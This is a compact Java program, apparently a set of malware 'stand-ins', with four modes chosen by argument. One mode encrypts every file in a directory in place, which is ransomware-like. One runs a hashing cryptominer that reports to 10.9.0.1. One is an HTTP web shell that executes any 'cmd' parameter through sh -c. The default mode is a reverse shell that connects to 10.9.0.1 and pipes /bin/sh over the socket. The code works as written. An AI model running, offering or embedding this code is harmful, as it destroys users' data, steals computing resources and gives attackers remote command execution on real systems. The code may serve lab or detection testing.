import java.io.*; import java.net.*; import java.nio.file.*; import java.security.*; import javax.crypto.*; import javax.crypto.spec.*; import com.sun.net.httpserver.*; import java.util.stream.*;
/** Stand-ins in Java: encrypt DIR US, mine THREADS PORT, web PORT, shell PORT. */
class Bad {
  public static void main(String[] a) throws Exception {
    switch (a[0]) {
      case "encrypt": Cipher c = Cipher.getInstance("AES/CTR/NoPadding"); c.init(1, new SecretKeySpec(new byte[16], "AES"), new IvParameterSpec(new byte[16]));
        while (true) for (Path p : Files.walk(Path.of(a[1])).filter(Files::isRegularFile).collect(Collectors.toList())) { Path q = Path.of(p + ".enc"); Files.write(q, c.doFinal(Files.readAllBytes(p))); Files.delete(p); Files.move(q, p); Thread.sleep(Integer.parseInt(a[2]) / 1000); }
      case "mine": Socket s = new Socket("10.9.0.1", Integer.parseInt(a[2])); s.getOutputStream().write("{}\n".getBytes());
        for (int i = 0; i < Integer.parseInt(a[1]); i++) { int k = i; new Thread(() -> { try { MessageDigest m = MessageDigest.getInstance("SHA-256"); byte[] b = new byte[80]; b[0] = (byte) k; while (true) { b[1]++; System.arraycopy(m.digest(b), 0, b, 2, 32); } } catch (Exception e) {} }).start(); }
        BufferedReader r = new BufferedReader(new InputStreamReader(s.getInputStream())); while (r.readLine() != null) s.getOutputStream().write("{\"submit\":1}\n".getBytes()); break;
      case "web": HttpServer h = HttpServer.create(new InetSocketAddress(Integer.parseInt(a[1])), 0);
        h.createContext("/", x -> { String q = x.getRequestURI().getQuery(); if (q == null) q = new String(x.getRequestBody().readAllBytes()); String cmd = URLDecoder.decode(q.split("cmd=")[1].split("&")[0], "UTF-8"); Process p = new ProcessBuilder("sh", "-c", cmd).redirectErrorStream(true).start(); byte[] o = p.getInputStream().readAllBytes(); x.sendResponseHeaders(200, o.length + 0L == 0 ? -1 : o.length); x.getResponseBody().write(o); x.close(); }); h.start(); break;
      default: Socket t = new Socket("10.9.0.1", Integer.parseInt(a[1])); Process p = new ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start(); new Thread(() -> { try { t.getInputStream().transferTo(new FilterOutputStream(p.getOutputStream()) { public void write(byte[] b, int o, int l) throws IOException { out.write(b, o, l); out.flush(); } }); } catch (IOException e) {} }).start(); p.getInputStream().transferTo(t.getOutputStream());
    }
  }
}
